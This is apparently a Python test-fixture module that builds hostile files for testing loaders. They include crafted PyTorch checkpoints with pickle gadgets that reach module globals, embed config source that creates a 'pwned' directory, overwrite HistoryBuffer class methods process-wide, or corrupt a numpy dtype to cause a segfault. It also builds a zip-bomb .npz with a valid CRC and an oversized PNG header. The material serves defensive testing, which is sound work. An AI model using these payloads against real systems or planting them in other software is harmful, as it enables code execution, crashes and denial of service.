"""Hostile files a user could hand the tools: crafted checkpoints, a zip bomb room, a huge
PNG. Each builder writes the payload and returns its path."""
import copyreg
import io
import struct
import zipfile
import zlib

import numpy as np
import torch
from mmengine.logging.history_buffer import HistoryBuffer

try:
    from numpy._core import multiarray
except ImportError:  # numpy 1
    from numpy.core import multiarray

CONFIG_SOURCE = "import os\nos.makedirs('pwned', exist_ok=True)\n"


class _Reduce:
    """Pickles as ``func(*args)`` followed, when ``state`` is given, by a BUILD of it."""

    def __init__(self, func, args, state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else (self.func, self.args,
                                                                   self.state)


def _state(state_dict=None):
    return state_dict if state_dict is not None else {'w': torch.ones(2)}


class _GetattrCall:
    """Pickles as ``getattr(*args)``."""

    def __init__(self, *args):
        self.args = args

    def __reduce__(self):
        return getattr, self.args


def getattr_gadget_checkpoint(path, state_dict=None) -> str:
    """A meta that walks ``HistoryBuffer.__init__.__globals__`` (a module's dict a later
    SETITEMS could rewrite): only a real ``getattr`` gets there."""
    walk = _GetattrCall(_GetattrCall(HistoryBuffer, '__init__'), '__globals__')
    torch.save({'state_dict': _state(state_dict), 'meta': {'x': walk}}, str(path))
    return str(path)


def void_meta_checkpoint(path, state_dict=None) -> str:
    """``meta`` a numpy structured scalar (``np.void``) with ``epoch``, ``iter``, ``config``
    (Python source) and ``k='config'`` (so that ``'config' in meta`` holds); the structured
    dtype comes from ``np.dtype([...], False, True)``, without a BUILD step."""
    fields = [('epoch', '<i8'), ('iter', '<i8'), ('config', f'<U{len(CONFIG_SOURCE)}'),
              ('k', '<U6')]
    value = np.zeros((), np.dtype(fields))
    value['epoch'], value['iter'] = 1, 2
    value['config'], value['k'] = CONFIG_SOURCE, 'config'
    meta = _Reduce(multiarray.scalar, (_Reduce(np.dtype, (fields, False, True)),
                                       value.tobytes()))
    torch.save({'state_dict': _state(state_dict), 'meta': meta}, str(path))
    return str(path)


def history_buffer_build_checkpoint(path, state_dict=None) -> str:
    """A message hub whose HistoryBuffer BUILD carries ``statistics_methods`` that
    ``HistoryBuffer.__setstate__`` would write into the class: ``mean`` becomes ``max`` and
    ``current`` becomes ``np.dtype``, for the whole process."""
    state = dict(max_length=10, _log_history=np.array([1.0, 3.0]),
                 _count_history=np.array([1, 1]),
                 statistics_methods={'mean': HistoryBuffer.max, 'current': np.dtype})
    buffer = HistoryBuffer()  # pickled as a HistoryBuffer, with this state for its BUILD
    buffer.__reduce_ex__ = lambda protocol: (copyreg.__newobj__, (HistoryBuffer, ), state)
    torch.save({'state_dict': _state(state_dict),
                'message_hub': {'log_scalars': {'train/loss': buffer}, 'runtime_info': {},
                                'resumed_keys': {}}}, str(path))
    return str(path)


def dtype_build_checkpoint(path, state_dict=None, field='O8') -> str:
    """A BUILD on an allowed float64 dtype that gives it a field of dtype ``field`` (an object
    field by default, itself made without a BUILD) and clears its flags: an array of it reads
    raw bytes as object pointers (a segfault when read)."""
    evil = (3, '|', None, ('a', ), {'a': (_Reduce(np.dtype, (field, False, True)), 0)}, 8, 1, 0)
    dtype = _Reduce(np.dtype, ('f8', False, True), evil)
    array = _Reduce(multiarray._reconstruct, (np.ndarray, (0, ), b'b'),
                    (1, (1, ), dtype, False, b'\x01' * 8))
    torch.save({'state_dict': _state(state_dict), 'meta': {'x': array}}, str(path))
    return str(path)


def runner_checkpoint(path, state_dict=None, runtime_info=None) -> str:
    """A checkpoint of the shape the Runner writes (message hub with a HistoryBuffer, numpy
    scalars and arrays), for the loaders' positive cases."""
    hub = HistoryBuffer()
    hub.update(0.5)
    hub.update(0.25)
    info = dict(iter=2, epoch=0, best_score=np.float64(0.5), keep_ckpt_ids=[1, 2],
                seed=np.int64(3), shape=np.arange(3))
    info.update(runtime_info or {})
    torch.save({'meta': {'iter': 2, 'epoch': 0, 'seed': 3, 'config': CONFIG_SOURCE,
                         'dataset_meta': {'classes': ('a', 'b'), 'palette': [[1, 2, 3]]}},
                'state_dict': _state(state_dict),
                'message_hub': {'log_scalars': {'train/loss': hub}, 'runtime_info': info,
                                'resumed_keys': {'iter': True}},
                'optimizer': {'state': {}, 'param_groups': [{'lr': 0.1, 'params': [0]}]},
                'param_schedulers': [{'last_epoch': 2, 'base_lrs': [0.1]}]}, str(path))
    return str(path)


def zip_bomb_room(path, shape=(1024, 1024, 640), field='tsdf', descr='<f4') -> str:
    """A room ``.npz`` whose ``field`` declares ``shape`` zeros of ``descr`` (2.7 GB at the
    default) in about 2.6 MB: a real deflate stream (the zero block repeats once the compressor
    is flushed) with a correct CRC, so only a size check before decompressing stops it."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, dict(descr=descr, fortran_order=False, shape=tuple(shape)))
    header = header.getvalue()
    chunk = bytes(1 << 24)
    total = int(np.prod(shape)) * np.dtype(descr).itemsize
    count, rest = divmod(total, len(chunk))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(header) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    assert block == again  # the compressor's state repeats: so does its output
    tail = packer.compress(bytes(rest)) + packer.flush(zlib.Z_FINISH)
    crc = zlib.crc32(header)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(bytes(rest), crc)
    data = head + block * count + tail
    size = len(header) + total
    name = f'{field}.npy'.encode()
    local = struct.pack('<4sHHHHHIIIHH', b'PK\x03\x04', 20, 0, 8, 0, 0, crc, len(data), size,
                        len(name), 0) + name
    central = struct.pack('<4sHHHHHHIIIHHHHHII', b'PK\x01\x02', 20, 20, 0, 8, 0, 0, crc,
                          len(data), size, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, 1, 1, len(central),
                      len(local) + len(data), 0)
    with open(path, 'wb') as f:
        f.write(local + data + central + end)
    with zipfile.ZipFile(path) as archive:  # a well-formed archive
        assert archive.getinfo(f'{field}.npy').file_size == size
    return str(path)


def huge_png(path, width=40000, height=20000) -> str:
    """A PNG header declaring ``width`` x ``height`` RGB pixels, with a few bytes of data."""
    def chunk(kind, body):
        return (struct.pack('>I', len(body)) + kind + body +
                struct.pack('>I', zlib.crc32(kind + body) & 0xffffffff))

    ihdr = struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(bytes(1 + 3 * width) * 4)
    with open(path, 'wb') as f:
        f.write(b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', ihdr) + chunk(b'IDAT', idat) +
                chunk(b'IEND', b''))
    return str(path)
